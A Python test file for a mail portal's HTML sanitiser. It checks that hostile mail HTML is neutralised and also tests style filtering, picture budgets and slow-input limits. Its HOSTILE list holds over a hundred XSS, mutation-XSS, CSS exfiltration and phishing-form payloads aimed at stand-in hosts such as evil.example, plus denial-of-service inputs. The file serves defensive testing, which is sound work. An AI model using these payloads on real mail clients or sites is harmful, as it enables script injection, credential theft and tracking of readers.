"""Hostile HTML in a mail: nothing in what the frame gets can run, fetch, submit, cover or restyle.

What comes out is judged by a parser of its own against lists of its own, so that a hole in the sanitiser's lists
is not a hole in the test.
"""

from __future__ import annotations

import base64
import re
import time
from html.parser import HTMLParser

import pytest

from tests.unit.portal_client import M, reader_of
from zegel_portal.body import blocks, body_of, frame_heights, pieces, without_tags
from zegel_portal.sanitise import PICTURE_BUDGET, has_remote_pictures, sanitise, too_much
from zegel_portal.styles import filter_declarations, style_sheets

PNG = b"\x89PNG\r\n\x1a\n" + b"x" * 20

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\t>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x ONERROR=alert(1) //",
    "<body onload=alert(1)>",
    "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a autoplay>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<![if !IE]><script>alert(1)</script><![endif]>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/m/x/sign-out'>x</a>",
    "<a href='?lang=nl'>x</a>",
    "<a href='#top'>x</a>",
    "<a href='https://ok.example' target=_top ping=//evil.example rel=opener>x</a>",
    "<a href='https://ok.example' download>x</a>",
    "<area href='javascript:alert(1)'>",
    "<map name=m><area shape=rect coords='0,0,999,999' href='https://evil.example'></map><img usemap=#m>",
    "<base href='https://evil.example/'><base target=_top>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x><link rel=dns-prefetch href=//evil.example>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x></applet>",
    "<portal src=https://evil.example></portal>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input type=image src=https://evil.example/x onerror=alert(1)>",
    "<isindex action='javascript:alert(1)'>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open style='position:fixed;inset:0'>x</dialog>",
    "<div popover id=x>x</div><button popovertarget=x>x</button>",
    "<img src=https://evil.example/track.png>",
    "<img srcset='https://evil.example/track.png 1x'>",
    "<img src=//evil.example/t.png><img src='http&#58;//evil.example/t.png'>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
    "<table background=https://evil.example/x><td background=https://evil.example/y>x</table>",
    "<body background=https://evil.example/x>",
    "<video poster=https://evil.example/x></video>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<img src=cid:nobody@x>",
    "<p style='background:url(https://evil.example/x)'>x",
    "<p style='background-image:url(//evil.example/x)'>x",
    "<p style='list-style:url(https://evil.example/x)'>x",
    "<p style='background:\\75 rl(https://evil.example)'>x",
    "<p style='background:u/**/rl(https://evil.example)'>x",
    "<p style='background:image-set(\"https://evil.example/x\" 1x)'>x",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x",
    "<p style='position:absolute;top:-500px'>x",
    "<p style='margin-top:-500px;transform:scale(9);opacity:0'>x",
    "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x",
    "<p style='content:attr(x);animation:a 1s;transition:all 1s;cursor:url(//evil.example)'>x",
    "<p style='--x:url(//evil.example);color:var(--x)'>x",
    "<p style='color:red}body{display:none'>x",
    "<p style=\"font-family:'</style><script>alert(1)</script>'\">x",
    "<p style='color:red;/*'>*/position:fixed</p>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';p{color:red}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>",
    "<style>p{color:red}</style foo><script>alert(1)</script>",
    "<style>*{position:fixed!important}html{filter:invert(1)}</style>",
    "<style>a[href^='https']{background:url(//evil.example/a)}</style>",
    "<style>p{color:red;}</sty</style>le><img src=x onerror=alert(1)>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<p id=main name=csrf class='card primary'>x",
    "<form name=getElementById><input name=attributes></form>",
    "<p is=evil-element slot=x contenteditable draggable=true>x",
    "<x-evil onclick=alert(1)>x</x-evil>",
    "<p title='<img src=x onerror=alert(1)>' alt='\"><script>alert(1)</script>'>x",
    "<img alt='<img src=x onerror=alert(1)>'>",
    "<img alt='&quot;><script>alert(1)</script>'>",
    "<table><tr><td><script>alert(1)</script></table><img src=x onerror=alert(1)",
    '<a href=https://ok.example/"onmouseover=alert(1)>x</a>',
    "<a href='https://ok.example/' onmouseover=alert(1) style=color:red;position:fixed>x</a>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<p lang='\"><script>alert(1)</script>'>x",
    "</body></html><script>alert(1)</script>",
    "</style></head><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b " + "a" * 5000 + "=1 onclick=alert(1)>x",
    "<a href='https://ok.example/<img'>x</a>\" onmouseover=alert(1) x=\"",
    "<a href='https://ok.example/><img alt='>x</a>\" onmouseover=alert(1) x=\"",
    "<a href='mailto:<img alt=&quot;a&quot;>'>x</a> onmouseover=alert(1)",
    "<p class='<img'>x</p>\" onclick=alert(1) x=\"><font face='<img alt=' color='>'>y",
    "<" * 1000 + "img src=x onerror=alert(1)>",
]

ALLOWED_TAGS = set(
    "html head meta title style body a abbr address article aside b bdi bdo big blockquote br caption center cite code "  # noqa: SIM905
    "col colgroup dd del div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main "
    "mark nav ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul "
    "var wbr".split()
)
ALLOWED_ATTRIBUTES = set(
    "href target rel src alt width height align valign bgcolor border cellpadding cellspacing colspan rowspan nowrap "  # noqa: SIM905
    "scope span color face size start type value class dir lang style charset name content".split()
)
SHEET = re.compile(r"(?:[a-z0-9\s.,>_-]+\{[a-z-]+:[^{}<>\\@]*\}\s*)*", re.IGNORECASE)


class Judge(HTMLParser):
    """Notes everything in a document that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.wrong.append(f"<{tag}>")
        self._in_style = tag == "style"
        for name, given in attrs:
            value = given or ""
            if name not in ALLOWED_ATTRIBUTES:
                self.wrong.append(f"{tag} {name}")
            elif name == "href" and not re.match(r"(https?://|mailto:|tel:)", value.strip(), re.IGNORECASE):
                self.wrong.append(f"href {value}")
            elif name == "src" and not re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+", value):
                self.wrong.append(f"src {value}")
            elif name == "target" and value != "_blank":
                self.wrong.append(f"target {value}")
            elif name == "style" and re.search(r"url|\(\s*[^\d\s]|position|z-index|@|\\|[{}<>]|/\*|transform", value):
                self.wrong.append(f"style {value}")
            elif name in ("name", "content") and tag != "meta":
                self.wrong.append(f"{tag} {name}")
        if tag == "a" and ("target", "_blank") not in attrs:
            self.wrong.append("link without target")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer":
            self.wrong.append("link without rel")

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)
            self._in_style = False


class Reader(HTMLParser):
    """Notes elements and texts, in one order of attributes and one way of writing a character."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, sorted(attrs, key=str)))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_data(self, data: str) -> None:
        self.found.append(("", data))


def meaning(html: str) -> list[object]:
    """What a browser makes of clean HTML."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found


def shown(html: str) -> str:
    """The body document that the frame gets for a mail with this HTML."""
    head = b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
    encoded = base64.encodebytes(html.encode("utf-8", "surrogatepass"))
    raw = head + b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded
    answer = reader_of(raw).get(f"{M}/body")
    assert answer.status == 200
    return answer.text


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless(html: str) -> None:
    for variant in (html, f"<p>{html}</p>", f"<table><tr><td>{html}", f"<b><i>{html}"):
        document = shown(variant)
        judge = Judge()
        judge.feed(document)
        judge.close()
        assert judge.wrong == []
        assert len(judge.styles) <= 2
        for sheet in judge.styles[1:]:
            assert SHEET.fullmatch(sheet.strip()), sheet
            assert "url" not in sheet
        assert document.count("<style>") == len(judge.styles)


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_what_is_clean_changes_nothing(html: str) -> None:
    once = sanitise(html, {}).html
    assert meaning(sanitise(once, {}).html) == meaning(once)


def test_there_are_enough_cases() -> None:
    assert len(HOSTILE) == len(set(HOSTILE)) >= 100


def test_what_makes_a_mail_look_like_itself_stays() -> None:
    html = (
        '<h2 style="color:#c00;margin:0 0 8px">Kop</h2><p align="center"><font face="Calibri" size="4">a</font></p>'
        '<table border="1" cellpadding="4" style="border-collapse:collapse"><tbody><tr>'
        '<td colspan="2" bgcolor="#eee">x</td></tr></tbody></table>'
        '<ul type="disc"><li>1</li></ul><blockquote>q</blockquote><p dir="rtl">שלום</p>'
    )
    assert sanitise(html, {}).html == html


def test_outlooks_paragraphs_keep_their_style_sheet() -> None:
    html = "<style><!--\n/* Font */\n@font-face{x:y}\np.Mso, li.Mso {margin:0cm;\n font-size:11.0pt;}\n--></style>"
    assert style_sheets(html) == "p.Mso, li.Mso{margin:0cm;font-size:11.0pt}"
    assert '<p class="Mso">x</p>' in shown(html + "<p class=Mso>x</p>")


def test_links_lead_out_in_a_new_tab_without_referrer() -> None:
    cleaned = sanitise('<a href="https://ok.example/?a=1&amp;b=2">x</a><a href="mailto:a@b.example">y</a>', {}).html
    assert 'href="https://ok.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer"' in cleaned
    assert 'href="mailto:a@b.example"' in cleaned


@pytest.mark.parametrize("source", ["cid:a@b", "CID:A@B", "cid:a%40b"])
def test_pictures_of_the_mail_itself_are_shown(source: str) -> None:
    cleaned = sanitise(f'<img src="{source}" width="20" alt="x">', {"a@b": lambda: PNG}).html
    assert f'src="data:image/png;base64,{base64.b64encode(PNG).decode()}"' in cleaned
    assert 'width="20"' in cleaned


def test_pictures_beyond_the_budget_become_their_words() -> None:
    big = PNG + b"x" * (PICTURE_BUDGET // 2)
    inline = {name: (lambda: big) for name in ("a", "b", "c")}
    cleaned = sanitise('<img src="cid:a"><img src="cid:b" alt="tweede"><img src="cid:c">', inline)
    assert cleaned.html.count("data:image/png") == 1
    assert "tweede" in cleaned.html
    assert cleaned.left_out == 2


def test_one_picture_used_a_thousand_times_stays_within_the_budget() -> None:
    picture = PNG + b"x" * 100_000
    assert len(sanitise('<img src="cid:a">' * 1000, {"a": lambda: picture}).html) < 2 * PICTURE_BUDGET


def test_remote_pictures_are_noticed_and_their_words_shown() -> None:
    html = '<p><img alt="Ons logo" src="https://kliniek.example/logo.png"></p>'
    assert has_remote_pictures(html)
    assert not has_remote_pictures('<img src="cid:x"><a href="https://x">y</a>')
    assert sanitise(html, {}).html == "<p>Ons logo</p>"


@pytest.mark.parametrize(
    "html",
    ["<div>" * 200_000, "<b>" * 100_000, "&" * 1_000_000, "<" * 1_000_000, "<img " * 200_000, "<style" * 200_000,
     "<!--" * 300_000, "<style>a{" * 50_000, "<b><p>" * 50_000, "<table><td>" * 50_000, "<a href=x>" * 60_000,
     "<style>" + "/*" * 300_000 + "</style>", "<style>" + "a{}" * 60_000 + "</style>",
     "<p style='" + ";" * 500_000 + "'>",
     "<p " + "style=a:b " * 50_000 + ">", "<img src=" * 100_000, "</div>" * 300_000, "\0" * 500_000],
    ids=lambda html: html[:12].encode("unicode_escape").decode(),
)  # fmt: skip
def test_html_that_is_meant_to_take_long_does_not(html: str) -> None:
    start = time.perf_counter()
    document = shown(html)
    assert time.perf_counter() - start < 5
    assert len(document) < 20_000_000


def test_html_that_is_too_much_is_shown_as_text() -> None:
    html = "<p>begin</p>" + "<div>" * 20_000
    assert too_much(html)
    assert '<p dir="auto">' in shown(html)
    assert "begin" in shown(html)


def test_large_but_honest_html_is_shown_as_written() -> None:
    rows = "<tr>" + "<td>1&nbsp;234</td>" * 10 + "</tr>"
    assert not too_much(f"<table>{rows * 2000}</table>")


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color : RED ; font-weight:bold", "color:RED;font-weight:bold"),
        ("color:rgb(1, 2, 3)!important", "color:rgb(1, 2, 3)"),
        ("width:100px;position:static", "width:100px"),
        ("font-family:'Segoe UI',Arial", "font-family:'Segoe UI',Arial"),
        ("margin:-5px;margin:0 auto", "margin:0 auto"),
        ("display:flex;display:none", "display:none"),
        ("color:calc(1px);color:red\\9;color:<b>", ""),
        ("", ""),
        (";;:::;", ""),
    ],
)
def test_declarations(style: str, kept: str) -> None:
    assert filter_declarations(style) == kept


def test_addresses_in_plain_text_become_links() -> None:
    found = [
        (p.text, p.href) for p in pieces("(https://a.example/x_(1)), <www.b.example>; c+d@e.example! javascript:x")
    ]
    assert ("www.b.example", "https://www.b.example") in found
    assert ("c+d@e.example", "mailto:c+d@e.example") in found
    assert not any("javascript" in href for _, href in found)
    assert (
        "".join(text for text, _ in found) == "(https://a.example/x_(1)), <www.b.example>; c+d@e.example! javascript:x"
    )


def test_long_plain_texts_are_quick_and_cut() -> None:
    start = time.perf_counter()
    for text in (
        "a" * 1_000_000,
        "a.b@" * 250_000,
        "http://" * 150_000,
        ">" * 500_000,
        ">\n\n" * 200_000,
        "www." * 250_000,
    ):
        list(blocks(text))
    assert time.perf_counter() - start < 10
    from zegel.message.view import view

    raw = b"Subject: x\r\n\r\n" + b"woord " * 300_000
    made = body_of(raw, view(raw))
    assert made.shortened
    assert sum(len(piece.text) for block in made.blocks for piece in block.pieces) == 1_000_000


def test_the_frame_is_about_as_high_as_its_text() -> None:
    from zegel.message.view import view

    def heights(text: str) -> tuple[int, int]:
        return frame_heights(view(b"Subject: x\r\n\r\n" + text.encode()))

    assert heights("kort") == (5, 5)
    wide, narrow = heights("een zin van veertig tekens lang ongeveer " * 40)
    assert wide < narrow
    assert heights("regel\r\n" * 5000)[0] == 130
    assert "\n" in without_tags("<p>a</p><p>b</p>")
